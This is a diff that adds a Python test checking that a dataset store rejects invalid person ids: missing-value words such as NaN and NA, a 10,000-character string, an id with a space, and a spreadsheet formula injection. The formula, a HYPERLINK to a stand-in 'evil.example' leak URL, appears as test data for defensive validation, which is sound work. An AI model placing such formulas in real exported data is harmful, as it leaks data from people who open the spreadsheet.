@@ -222,3 +222,34 @@ def test_a_folder_is_the_same_data_by_a_relative_or_an_absolute_path(dataset, mo
         (root / "events.csv").read_text() + "P1,2026-02-05,urine_test,1,heroin\n"
     )
     assert Store(root.name).identity() != absolute  # new data is other data
+
+
+def test_a_person_id_is_one_the_api_can_address_and_a_spreadsheet_shows_as_text(
+    dataset, tmp_path
+):
+    """A person id is letters, digits, _ - . or Chinese characters, at most 64: the words a
+    missing value is written as are not ids (they would make one person of all of them), a
+    formula is not one (a spreadsheet would run it), nor is an id the API cannot address."""
+    odd = [
+        "NaN",
+        "null",
+        "None",
+        "NA",
+        '=HYPERLINK("http://evil.example/?leak","open")',
+        "x" * 10_000,
+        "P 1",
+    ]
+    persons = [{"person_id": "P1"}, {"person_id": "张三-01.b_2"}, *({"person_id": i} for i in odd)]
+    rejects = tmp_path / "rejects.csv"
+    store = Store(dataset(persons, []), lenient=True, rejects_path=rejects)
+    assert (store.report.persons, store.report.rejected_persons) == (2, len(odd))
+    reasons = pd.read_csv(rejects).set_index("row").reasons.to_dict()
+    assert reasons[3] == "person_id: NaN is how a missing value is written, not an id"
+    assert reasons[6] == "person_id: NA is how a missing value is written, not an id"
+    assert reasons[7] == (
+        'person_id: =HYPERLINK("http://e... (46 characters) is not an id: letters, digits, '
+        "_ - . or Chinese characters, at most 64"
+    )
+    assert reasons[8].startswith("person_id: xxxxxxxxxxxxxxxxxxxx... (10000 characters) is not")
+    assert reasons[9].startswith("person_id: P 1 is not an id")
+    assert len(reasons) == len(odd)
